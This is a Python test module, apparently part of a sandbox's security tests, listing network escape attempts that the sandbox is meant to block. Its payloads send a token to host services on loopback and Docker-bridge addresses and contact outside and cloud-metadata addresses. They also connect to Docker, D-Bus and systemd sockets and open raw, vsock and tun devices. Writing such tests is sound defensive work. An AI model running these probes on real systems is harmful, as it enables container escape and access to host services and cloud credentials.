"""Reaching the network, or services of this machine. A listener must not hear anything."""

from tests.attacks.attack import SEARCH, Attack, at_end

__all__ = ["ATTACKS"]

FAMILY = "network"

ATTACKS = (
    Attack(
        "services-of-this-machine",
        FAMILY,
        "calls a service of the host on every address that it can have",
        at_end("""\
import socket
hosts = ["127.0.0.1", "::1", "localhost", "0.0.0.0", "@address@", "10.0.2.2", "172.17.0.1"]
for host in hosts:
    try:
        socket.create_connection((host, @port@), 0.2).sendall(b"@token@")
        print("@won@", host)
    except OSError:
        pass
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for host in ("127.0.0.1", "@address@", "255.255.255.255"):
    try:
        datagrams.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        datagrams.sendto(b"@token@", (host, @port@))
    except OSError:
        pass
"""),
    ),
    Attack(
        "names-and-addresses-outside",
        FAMILY,
        "asks for names, and calls addresses outside",
        at_end("""\
import socket
socket.setdefaulttimeout(0.3)
for name in ("example.org", "@token@.example.org", "metadata.google.internal"):
    try:
        socket.getaddrinfo(name, 80)
        print("@won@", name)
    except OSError:
        pass
for address in (("192.0.2.1", 80), ("169.254.169.254", 80), ("8.8.8.8", 53), ("1.1.1.1", 443)):
    try:
        socket.create_connection(address, 0.3)
        print("@won@", address)
    except OSError:
        pass
    try:
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.sendto(b"@token@", address)
        print("@won@", address)
    except OSError:
        pass
"""),
    ),
    Attack(
        "local-sockets",
        FAMILY,
        "calls the host's local sockets: by path, without a path, those of Docker and the bus",
        at_end(
            SEARCH
            + """\
import socket
for name in ("@socket@", "\\0@token@", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0",
             *glob.glob("/run/**/*.sock", recursive=True), *glob.glob("/tmp/**/*.sock"),
             *(line.split()[-1].replace("@", "\\0", 1)
               for line in open("/proc/net/unix").read().splitlines()[1:]
               if len(line.split()) > 7)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            one = socket.socket(socket.AF_UNIX, kind)
            one.settimeout(0.2)
            one.connect(name)
            one.send(b"@token@")
            print("@won@", repr(name))
        except OSError:
            pass
"""
        ),
    ),
    Attack(
        "other-families",
        FAMILY,
        "opens raw, packet and vsock sockets, and sets up interfaces",
        at_end("""\
import ctypes, fcntl, os, socket, struct
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try:
        one = socket.socket(family, kind, 3 if family == socket.AF_PACKET else 1)
        for _, name in socket.if_nameindex():
            if name != "lo":
                one.bind((name, 0))
                one.send(b"@token@" * 4)
                print("@won@", name)
    except OSError:
        pass
try:
    one = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    one.settimeout(0.2)
    one.connect((socket.VMADDR_CID_HOST, @port@))
    print("@won@ vsock")
except (OSError, AttributeError):
    pass
try:
    tap = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(tap, 0x400454CA, struct.pack("16sH", b"own", 0x1001))
except OSError:
    pass
"""),
    ),
)
